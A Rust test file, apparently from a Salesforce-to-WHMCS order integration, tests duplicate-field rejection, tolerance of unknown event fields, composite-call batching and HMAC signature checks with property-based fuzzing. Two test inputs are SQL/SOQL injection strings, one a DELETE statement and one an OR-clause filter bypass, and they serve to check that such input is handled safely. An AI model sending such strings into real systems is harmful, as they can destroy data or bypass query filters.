    let stack = LocalStack::start().await.unwrap();
    let order = stack.id("InternetOrder").to_string();
    let raw = platform_event().to_string().replacen(
        "\"OrderId__c\"",
        &format!("\"OrderId__c\":\"{order}\",\"OrderId__c\""),
        1,
    );
    assert!(raw.matches("OrderId__c").count() == 2, "{raw}");
    let e = dealbridge_platform_events::handle_json(&raw, &stack.platform_events)
        .await
        .unwrap_err();
    assert_eq!(error_kind(&e), "malformed");
    assert!(
        e.to_string()
            .contains("detail.payload.OrderId__c appears more than once"),
        "{e}"
    );
    assert_eq!(enqueued(&stack), 0);
    // The same text without the duplicate is dispatched.
    dealbridge_platform_events::handle_json(&platform_event().to_string(), &stack.platform_events)
        .await
        .unwrap();
    assert_eq!(enqueued(&stack), 1);
}

#[tokio::test]
async fn unknown_platform_event_fields_are_tolerated() {
    // Event Relay adds envelope fields and admins add fields to the event; the function reads only
    // OrderId__c, IdemKey__c and CorrelationId__c (as the unit tests and the sample event show).
    let stack = LocalStack::start().await.unwrap();
    let mut event = platform_event();
    event["detail"]["payload"]["Evil__c"] = json!("'; DELETE FROM Order; --");
    event["detail"]["payload"]["Nested__c"] = json!({"deep": [1, 2, {"x": null}]});
    event["detail"]["schemaId"] = json!("unknown-schema");
    event["detail"]["extra"] = json!("x".repeat(10_240));
    event["unknownTopLevel"] = json!(true);
    let event: EventBridgeEvent<Value> = serde_json::from_value(event).unwrap();
    dealbridge_platform_events::handle(event, &stack.platform_events)
        .await
        .unwrap();
    assert_eq!(stack.queue.sent(QueueName::WhmcsProvision).len(), 1);
    assert_eq!(enqueued(&stack), 1);
}

// ---- properties of the pure parts ----

fn creds() -> IntakeCredentials {
    serde_json::from_value(json!({"hmac_key": "k3y", "bearer_token": "t0ken"})).unwrap()
}

fn signature_headers(value: &str) -> Option<HeaderMap> {
    let mut h = HeaderMap::new();
    h.insert(SIGNATURE_HEADER, HeaderValue::from_str(value).ok()?);
    Some(h)
}

fn check_request_error(body: &[u8]) -> Result<(), TestCaseError> {
    if let Err(e) = parse_deal_request(body) {
        prop_assert!(DOCUMENTED_CODES.contains(&e.code), "{}", e.code);
        prop_assert!(!e.message.is_empty());
        prop_assert!(e.message.len() <= 600, "{}", e.message);
        let names_a_field = !matches!(e.code, "empty_body" | "malformed_json");
        prop_assert_eq!(e.field.is_some(), names_a_field, "{:?}", e);
    }
    Ok(())
}

fn json_value() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(|n| json!(n)),
        "\\PC{0,24}".prop_map(Value::String),
        "[0-9A-Za-z]{15}|[0-9A-Za-z]{18}".prop_map(Value::String),
        Just(json!("006SB0000000001YAA")),
        Just(json!("801SB0000000006YAA")),
        Just(json!("006' OR Id != '")),
    ];
    leaf.prop_recursive(3, 16, 4, |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..4).prop_map(Value::Array),
            proptest::collection::btree_map("\\PC{0,8}", inner, 0..4)
                .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

fn field_name() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("opportunityId".to_string()),
        Just("orderId".to_string()),
        Just("Opportunity_Id".to_string()),
        Just("correlationId".to_string()),
        Just("dryRun".to_string()),
        "\\PC{0,12}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn any_bytes_get_a_documented_code_from_the_request_parser(
        body in proptest::collection::vec(any::<u8>(), 0..512)
    ) {
        check_request_error(&body)?;
    }

    #[test]
    fn any_json_object_gets_a_documented_code_or_a_valid_deal(
        fields in proptest::collection::btree_map(field_name(), json_value(), 0..5)
    ) {
        let body = Value::Object(fields.into_iter().collect()).to_string();
        check_request_error(body.as_bytes())?;
        if let Ok(request) = parse_deal_request(body.as_bytes()) {
            let id = request.deal.id().as_str();
            prop_assert!(id.len() == 18 && id.chars().all(|c| c.is_ascii_alphanumeric()));
            prop_assert!(matches!(request.deal.id().key_prefix(), "006" | "801"));
        }
    }

    #[test]
    fn any_cut_or_flip_of_a_valid_body_gets_a_documented_code(
        cut in 0usize..=80,
        flips in proptest::collection::vec((0usize..80, any::<u8>()), 0..4),
    ) {
        let mut body =
            br#"{"opportunityId":"006SB0000000001YAA","correlationId":"c-1","dryRun":true}"#
                .to_vec();
        for (at, byte) in flips {
            if let Some(b) = body.get_mut(at) {
                *b = byte;
            }
        }
        body.truncate(cut);
        check_request_error(&body)?;
    }

    #[test]
    fn arbitrary_signature_headers_never_authenticate(
        header in proptest::collection::vec(any::<u8>(), 0..120),
        body in ".{0,40}",
    ) {
        if let Ok(value) = HeaderValue::from_bytes(&header) {
            let mut headers = HeaderMap::new();
            headers.insert(SIGNATURE_HEADER, value);
            let result = verify_json(&headers, body.as_bytes(), &creds(), 1_000_000, 300);
            prop_assert!(result.is_err());
        }
    }

    #[test]
    fn well_shaped_signature_headers_without_the_key_never_authenticate(
        t in i64::MIN..i64::MAX,
        mac in "[0-9a-fA-F]{0,70}",
        body in ".{0,40}",
    ) {
        let headers = signature_headers(&format!("t={t},v1={mac}")).unwrap();
        let result = verify_json(&headers, body.as_bytes(), &creds(), 1_000_000, 300);
        let well_formed = mac.len() == 64;
        let expected = if !well_formed {
            AuthError::MalformedSignature
        } else if (1_000_000 - t).abs() > 300 {
            AuthError::Stale
        } else {
            AuthError::BadSignature
        };
        prop_assert_eq!(result, Err(expected));
    }

    #[test]
    fn a_signature_verifies_only_its_own_body_within_the_window(
        body in proptest::collection::vec(any::<u8>(), 0..200),
        skew in -300i64..=300,
        flip in any::<proptest::sample::Index>(),
        late in 301i64..100_000,
    ) {
        let now = 1_795_176_000;
        let signature = sign(b"k3y", now + skew, &body).unwrap();
        let headers = signature_headers(&signature).unwrap();
        prop_assert_eq!(verify_json(&headers, &body, &creds(), now, 300), Ok(()));
        prop_assert_eq!(
            verify_json(&headers, &body, &creds(), now + skew + late, 300),
            Err(AuthError::Stale)
        );
        prop_assert_eq!(
            verify_json(&headers, &body, &creds(), now + skew - late, 300),
            Err(AuthError::Stale)
        );
        if !body.is_empty() {
            let mut other = body.clone();
            let at = flip.index(other.len());
            other[at] ^= 0x01;
            prop_assert_eq!(
                verify_json(&headers, &other, &creds(), now, 300),
                Err(AuthError::BadSignature)
            );
        }
    }
}

/// Every message sent, in a form two stacks can compare: the queue, the deduplication and group
/// ids, and the envelope without its random chain name.
fn sent_messages(stack: &LocalStack) -> Vec<(QueueName, Option<String>, Option<String>, Value)> {
    fn without_chain(v: &mut Value) {
        match v {
            Value::Object(map) => {
                map.remove("chain");
                map.values_mut().for_each(without_chain);
            }
            Value::Array(items) => items.iter_mut().for_each(without_chain),
            _ => {}
        }
    }
    let mut out = Vec::new();
    for queue in QueueName::ALL {
        for m in stack.queue.sent(queue) {
            let envelope = dealbridge::envelope::Envelope::parse(&m.body).unwrap();
            let mut value = serde_json::to_value(&envelope).unwrap();
            without_chain(&mut value);
            out.push((queue, m.dedup_id.clone(), m.group_id.clone(), value));
        }
    }
    out.sort_by(|a, b| format!("{a:?}").cmp(&format!("{b:?}")));
    out
}

#[tokio::test]
async fn an_outbound_message_of_100_deals_reads_them_in_one_composite_call_per_50_of_a_kind() {
    use dealbridge::dispatch::DispatchRequest;
    use dealbridge::snapshot::DealRef;
    use dealbridge_sandbox::salesforce::routes;

    let batched = LocalStack::start().await.unwrap();
    let alone = LocalStack::start().await.unwrap();
    let ids_of = |sobject: &str| {
        let mut ids: Vec<String> = batched.salesforce.with_org(|org| {
            org.records(sobject)
                .iter()
                .filter_map(|r| r.get("Id").and_then(Value::as_str).map(String::from))
                .collect()
        });
        ids.sort();
        ids
    };
    let opportunities = ids_of("Opportunity");
    let orders = ids_of("Order");
    assert!(
        opportunities.len() > 50,
        "the seed has {} Opportunities",
        opportunities.len()
    );
    // Salesforce sends at most 100 notifications a message: every Opportunity, then Orders.
    let deals: Vec<DealRef> = opportunities
        .iter()
        .map(|id| DealRef::opportunity(id).unwrap())
        .chain(orders.iter().map(|id| DealRef::order(id).unwrap()))
        .take(100)
        .collect();
    let order_count = deals.len() - opportunities.len();
    let notification_ids: Vec<String> = (1..=deals.len())
        .map(|i| {
            dealbridge::salesforce::SfId::parse(&format!("04lSB{i:010}"))
                .unwrap()
                .to_string()
        })
        .collect();
    let body = soap_message(
        ORG,
        &deals
            .iter()
            .zip(&notification_ids)
            .map(|(deal, n)| notification(n, deal.sobject(), deal.id().as_str()))
            .collect::<Vec<_>>()
            .join("\n"),
    );

    let r = handle(http_request(&soap(&body)), &batched.intake).await;
    assert_eq!(r.status(), 200, "{}", body_text(&r));

    // The same deals dispatched one at a time, as before.
    for (deal, n) in deals.iter().zip(&notification_ids) {
        let _ = alone
            .intake
            .dispatcher
            .dispatch(&DispatchRequest {
                deal: deal.clone(),
                correlation_id: format!("om-{n}"),
                dry_run: false,
                attempt: 0,
                idempotency_key: Some(n.clone()),
                delayed_key: None,
            })
            .await;
    }
    let batched_messages = sent_messages(&batched);
    assert!(
        batched_messages.len() >= deals.len() - 5,
        "{}",
        batched_messages.len()
    );
    assert_eq!(
        batched_messages,
        sent_messages(&alone),
        "the same messages, the same snapshots"
    );

    // Loading alone, each deal takes one Composite call (two on an amended Contract); together,
    // one call reads 50 deals of a kind: 56 Opportunities in two, the Orders in one.
    let composite = |s: &LocalStack| s.salesforce.observer().count(routes::COMPOSITE);
    let batches = opportunities.len().div_ceil(50) + order_count.div_ceil(50);
    assert_eq!(batches, 3);
    assert_eq!(
        composite(&batched),
        composite(&alone) - deals.len() + batches
    );
}
